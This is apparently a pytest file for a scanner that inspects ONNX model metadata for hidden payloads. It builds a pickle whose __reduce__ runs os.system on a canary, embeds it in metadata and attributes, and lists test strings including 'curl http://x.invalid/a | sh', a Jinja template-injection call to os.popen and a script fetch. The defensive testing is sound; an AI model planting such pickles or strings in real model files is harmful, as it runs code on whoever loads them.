"""metadata_props / doc_string content (MLS-ONX-240) and payloads hidden in strings."""

from __future__ import annotations

import base64
import io
import pickle
import zipfile

import pytest

pytest.importorskip("onnx")

from onnx import helper  # noqa: E402

from fixtures.builders import onnx as samples  # noqa: E402
from fixtures.builders.canary import CANARY_DIR, canary_command  # noqa: E402
from scanner.core.finding import Severity  # noqa: E402
from tests.conftest import scan_paths  # noqa: E402


def _scan(model, tmp_path):
    path = tmp_path / "model.onnx"
    path.write_bytes(model.SerializeToString())
    return scan_paths(path)


def _with_metadata(key: str, value: str):
    model = samples.build_model("classifier.onnx")
    entry = model.metadata_props.add()
    entry.key, entry.value = key, value
    return model


class _Payload:
    def __reduce__(self):
        import os

        return os.system, (canary_command("onnx_strings_test"),)


def test_base64_pickle_in_metadata_is_high_and_scanned_as_a_nested_pickle(tmp_path):
    value = base64.b64encode(pickle.dumps(_Payload(), protocol=2)).decode()
    result = _scan(_with_metadata("labels", f"config: {value}"), tmp_path)
    onnx_hits = [f for f in result.findings if f.rule_id == "MLS-ONX-240"]
    assert onnx_hits and onnx_hits[0].severity is Severity.HIGH
    nested = [a for a in result.artifacts if a.location.endswith("(base64)")]
    assert nested and nested[0].format == "pickle"
    assert not (CANARY_DIR / "onnx_strings_test").exists()


def test_raw_pickle_bytes_in_a_string_attribute_are_scanned(tmp_path):
    model = samples.build_model("classifier.onnx")
    model.graph.node[0].attribute.append(helper.make_attribute("blob", pickle.dumps(_Payload(), protocol=4)))
    result = _scan(model, tmp_path)
    assert any(f.rule_id == "MLS-ONX-240" and f.severity is Severity.HIGH for f in result.findings)
    assert any(a.format == "pickle" for a in result.artifacts)


def test_base64_zip_in_doc_string_is_scanned(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("data.pkl", pickle.dumps({"a": 1}, protocol=2))
    model = samples.build_model("classifier.onnx")
    model.graph.node[1].doc_string = base64.b64encode(buffer.getvalue()).decode()
    result = _scan(model, tmp_path)
    assert any(f.rule_id == "MLS-ONX-240" and "zip" in f.evidence for f in result.findings)
    assert any(a.format == "zip" for a in result.artifacts)


@pytest.mark.parametrize(("value", "severity"), [
    ("import os; os.system('curl http://x.invalid/a | sh')", Severity.MEDIUM),
    ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", Severity.MEDIUM),
    ("<script>fetch('https://x.invalid')</script>", Severity.MEDIUM),
    ("see https://example.com/model-card", Severity.LOW),
    ("A" * 70_000, Severity.LOW),
])
def test_suspicious_metadata_values(tmp_path, value, severity):
    findings = [f for f in _scan(_with_metadata("note", value), tmp_path).findings if f.rule_id == "MLS-ONX-240"]
    assert findings and max(f.severity for f in findings) is severity


@pytest.mark.parametrize("value", [
    "resnet18 trained on imagenet, top-1 76.1%", '{"0": "cat", "1": "dog"}', "mean=0.485,0.456,0.406",
    "Converted by pytorch 2.13.0", "c29tZSBvcmRpbmFyeSBiYXNlNjQgdGV4dCBoZXJl",
])
def test_ordinary_metadata_is_clean(tmp_path, value):
    assert [f for f in _scan(_with_metadata("info", value), tmp_path).findings] == []
